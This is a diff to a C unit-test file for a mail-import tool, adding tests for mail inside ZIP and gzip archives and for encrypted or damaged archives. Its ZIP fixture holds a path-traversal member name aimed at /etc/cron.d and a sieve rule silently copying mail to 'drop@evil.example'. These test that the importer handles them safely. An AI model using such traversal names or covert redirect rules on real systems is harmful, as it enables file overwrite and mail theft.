@@ -2,10 +2,12 @@
  * jailed workers and the real program. */
 #include "../../cli/import.h"
 
+#include "forge.h"
 #include "sample_case.h"
 #include "shared.h"
 
 #include "base/job.h"
+#include "parse/inside.h"
 
 #include <dirent.h>
 #include <setjmp.h>
@@ -233,8 +235,9 @@ static void nothing_is_passed_over_in_silence(void **state)
     import(box);
     assert_says(box, "a.png: image/png");
     assert_says(box, "b.eml: the file is empty");
-    assert_says(box, "c.pst: Outlook data file");
-    assert_says(box, "d.mbox: ZIP archive");
+    assert_says(box, "c.pst");
+    assert_says(box, "d.mbox");
+    assert_says(box, "it is damaged, or of a kind that");
     assert_says(box, "link: a symbolic link");
     assert_says(box, "pipe: a pipe");
     assert_says(box, "<U+001B>[31mf: ");
@@ -243,9 +246,105 @@ static void nothing_is_passed_over_in_silence(void **state)
     assert_says(box, "nothing stands between two");
     assert_says(box, "PERHAPS CUT OFF: its last line has no end");
     assert_says(box, "usable with limits");
-    assert_int_equal(box->order.totals.not_taken, 7);
-    assert_int_equal(box->order.totals.rejected, 2);
+    assert_int_equal(box->order.totals.not_taken, inside_can("pst") ? 5 : 6);
+    assert_int_equal(box->order.totals.rejected, inside_can("pst") ? 4 : 3);
     assert_int_equal(box->order.totals.messages, 2);
+    assert_intact(box);
+}
+
+/* --- files in files --- */
+
+#define S(text)                                                                                    \
+    {                                                                                              \
+        (text), sizeof(text) - 1                                                                   \
+    }
+
+static const struct forge_file in_a_zip[] = {
+    {"Inbox/1.eml", S(HEADER "1\n\nx\n")},
+    {"Inbox/2.eml", S(HEADER "2\n\nx\n")},
+    {"../../etc/cron.d/3.eml", S(HEADER "3\n\nx\n")},
+    {"Sent.sbd/2024", S(LINE HEADER "4\n\nx\n\n" LINE HEADER "5\n\ny\n")},
+    {"Maildir/.Sent.Old/cur/1704103202.M3.host:2,S", S(HEADER "6\n\nx\n")},
+    {"rules.sieve", S("require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n")},
+    {"__MACOSX/Inbox/._1.eml", S("\1\2")},
+    {"notes.txt", S("what is this\n")},
+    {"inner.zip", S("PK\3\4")},
+};
+
+static void put_zip(struct box *box, const char *name, size_t count, bool encrypted)
+{
+    struct buf zip;
+
+    buf_init(&zip, 1 << 20);
+    forge_zip(&zip, in_a_zip, count, encrypted);
+    put_bytes(box, name, buf_as_str(&zip));
+    buf_dispose(&zip);
+}
+
+static void mail_in_an_archive_is_imported_like_files(void **state)
+{
+    struct box *box = *state;
+
+    put_zip(box, "client.zip", ARRAY_LEN(in_a_zip), false);
+    import(box);
+    assert_folder(box, "Inbox", FOLDER_INBOX, 2);
+    assert_folder(box, "etc/cron.d", FOLDER_PLAIN, 1);
+    assert_folder(box, "Sent/2024", FOLDER_PLAIN, 2);
+    assert_folder(box, "Maildir/Sent/Old", FOLDER_PLAIN, 1);
+    assert_total(box, 6);
+    assert_int_equal(box->order.totals.rules, 1);
+    assert_says(box, "notes.txt");
+    assert_says(box, "inner.zip: ZIP archive in another");
+    assert_says(box, "8 read, 8 taken in");
+    assert_intact(box);
+    import(box);
+    assert_int_equal(box->order.totals.messages, 0);
+    assert_total(box, 6);
+}
+
+static void packed_streams_are_imported(void **state)
+{
+    struct box *box = *state;
+    char source[TEMP_PATH + 32], target[TEMP_PATH + 64];
+    struct error err = {0};
+    struct buf packed;
+
+    put(box, "Archive/1.eml", HEADER "1\n\nx\n");
+    put(box, "Archive/2.eml", HEADER "2\n\nx\n");
+    snprintf(source, sizeof(source), "%s/Archive", box->files);
+    snprintf(target, sizeof(target), "%s/client.tar.gz", box->files);
+    must(temp_run((const char *[]){"tar", "-czf", target, "-C", box->files, "Archive", NULL}, &err),
+         &err);
+    must(temp_run((const char *[]){"rm", "-r", source, NULL}, &err), &err);
+    buf_init(&packed, 1 << 20);
+    forge_gzip(&packed, str_of(LINE HEADER "3\n\nx\n\n" LINE HEADER "4\n\ny\n"));
+    put_bytes(box, "old.mbox.gz", buf_as_str(&packed));
+    buf_dispose(&packed);
+    import(box);
+    assert_folder(box, "Archive", FOLDER_ARCHIVE, 2);
+    assert_folder(box, "old", FOLDER_PLAIN, 2);
+    assert_total(box, 4);
+    assert_int_equal(box->order.totals.rejected, 0);
+}
+
+static void what_cannot_be_unpacked_is_told(void **state)
+{
+    struct box *box = *state;
+    struct buf broken;
+
+    put_zip(box, "locked.zip", 2, true);
+    buf_init(&broken, 1 << 20);
+    forge_zip(&broken, in_a_zip, 5, false);
+    broken.len -= 100; /* its list of members */
+    broken.at[broken.len / 2] ^= 0x55;
+    put_bytes(box, "damaged.zip", buf_as_str(&broken));
+    buf_dispose(&broken);
+    import(box);
+    assert_says(box, "it is encrypted");
+    assert_says(box, "Inbox/2.eml: it is encrypted");
+    assert_says(box, "Sent.sbd/2024: it is damaged");
+    assert_says(box, "5 read, 4 taken in, 1 NOT TAKEN");
+    assert_total(box, 4);
     assert_intact(box);
 }
 
@@ -437,6 +536,10 @@ int main(void)
         cmocka_unit_test_setup_teardown(mail_in_every_layout_becomes_folders, set_up, tear_down),
         cmocka_unit_test_setup_teardown(a_mail_is_kept_as_it_stood_and_where, set_up, tear_down),
         cmocka_unit_test_setup_teardown(nothing_is_passed_over_in_silence, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(mail_in_an_archive_is_imported_like_files, set_up,
+                                        tear_down),
+        cmocka_unit_test_setup_teardown(packed_streams_are_imported, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(what_cannot_be_unpacked_is_told, set_up, tear_down),
         cmocka_unit_test_setup_teardown(an_export_of_rules_becomes_rules, set_up, tear_down),
         cmocka_unit_test_setup_teardown(a_second_import_takes_only_what_is_new, set_up, tear_down),
         cmocka_unit_test_setup_teardown(a_killed_import_goes_on_where_it_stopped, set_up,
